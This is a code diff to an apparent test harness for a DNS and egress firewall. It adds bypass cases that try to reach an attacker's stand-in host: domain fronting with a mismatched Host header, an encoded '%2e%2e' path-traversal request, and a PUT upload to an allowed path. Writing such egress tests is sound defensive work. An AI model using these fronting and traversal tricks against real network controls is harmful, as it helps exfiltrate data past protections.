@@ -13,31 +13,34 @@ from dataclasses import dataclass
 
 from dnsfw.playground import atlas
 from dnsfw.playground.package.names import question
-from dnsfw.playground.package.way import Loot, Way
-
-_INSPECT = "only decrypting can tell; rules for URLs are not built yet"
+from dnsfw.playground.package.way import Answered, Loot, Way
 
 
 @dataclass(frozen=True)
 class Get:
-    """`GET path` with this Host, in a TLS connection to `address` that names `sni`, or nothing where that is None."""
+    """`GET path` with this Host, in a TLS connection to `address` that names `sni`, or nothing where that is None.
+    Sites are verified against the playground's authority and those that the machine trusts."""
 
     address: str
     sni: str | None
     host: str
     path: str
+    method: str = "GET"
 
 
 def fetch(loot: Loot, get: Get) -> None:
     context = ssl.create_default_context(cafile=loot.authority)
+    context.load_default_certs()
     context.check_hostname = get.sni is not None
-    request = f"GET {get.path} HTTP/1.1\r\nHost: {get.host}\r\nConnection: close\r\n\r\n"
+    request = f"{get.method} {get.path} HTTP/1.1\r\nHost: {get.host}\r\nConnection: close\r\n\r\n"
     with (
         socket.create_connection((get.address, 443)) as plain,
         context.wrap_socket(plain, server_hostname=get.sni) as tls,
     ):
         tls.sendall(request.encode())
-        tls.recv(4096)
+        status = tls.recv(4096).decode("latin-1").split(" ", 2)[1:2]
+        if status == ["403"]:
+            raise Answered("HTTP 403")
 
 
 def _path(loot: Loot) -> str:
@@ -85,8 +88,24 @@ def shared_address_without_sni(loot: Loot) -> None:
     fetch(loot, Get(atlas.SHARED.v4, None, atlas.EVIL_SHARED_NAME, _path(loot)))
 
 
+def _asset(loot: Loot) -> str:
+    return f"{atlas.ASSETS}{_path(loot)}"
+
+
 def fronted(loot: Loot) -> None:
-    fetch(loot, Get(atlas.SHARED.v4, atlas.SHARED_NAME, atlas.EVIL_SHARED_NAME, _path(loot)))
+    fetch(loot, Get(atlas.SHARED.v4, atlas.SHARED_NAME, atlas.EVIL_SHARED_NAME, _asset(loot)))
+
+
+def other_path(loot: Loot) -> None:
+    fetch(loot, Get(atlas.SHARED_NAME, atlas.SHARED_NAME, atlas.SHARED_NAME, _path(loot)))
+
+
+def roundabout_path(loot: Loot) -> None:
+    fetch(loot, Get(atlas.SHARED_NAME, atlas.SHARED_NAME, atlas.SHARED_NAME, f"{atlas.ASSETS}/%2e%2e{_path(loot)}"))
+
+
+def other_method(loot: Loot) -> None:
+    fetch(loot, Get(atlas.SHARED_NAME, atlas.SHARED_NAME, atlas.SHARED_NAME, _asset(loot), "PUT"))
 
 
 def not_tls(loot: Loot) -> None:
@@ -106,5 +125,8 @@ WAYS = (
     Way("shared-sni6", "attacker's SNI, allowed address, IPv6", (11, 26), shared_address_v6),
     Way("shared-no-sni", "no SNI, allowed address", (26,), shared_address_without_sni),
     Way("shared-not-tls", "no TLS at all, allowed address", (26,), not_tls),
-    Way("fronting", "allowed SNI, attacker's Host header", (26,), fronted, _INSPECT),
+    Way("fronting", "allowed SNI, attacker's Host header", (26,), fronted),
+    Way("url-path", "another path of an allowed host", (27,), other_path),
+    Way("url-dots", "the same, by way of an allowed path", (27,), roundabout_path),
+    Way("url-method", "an upload to an allowed path", (27,), other_method),
 )
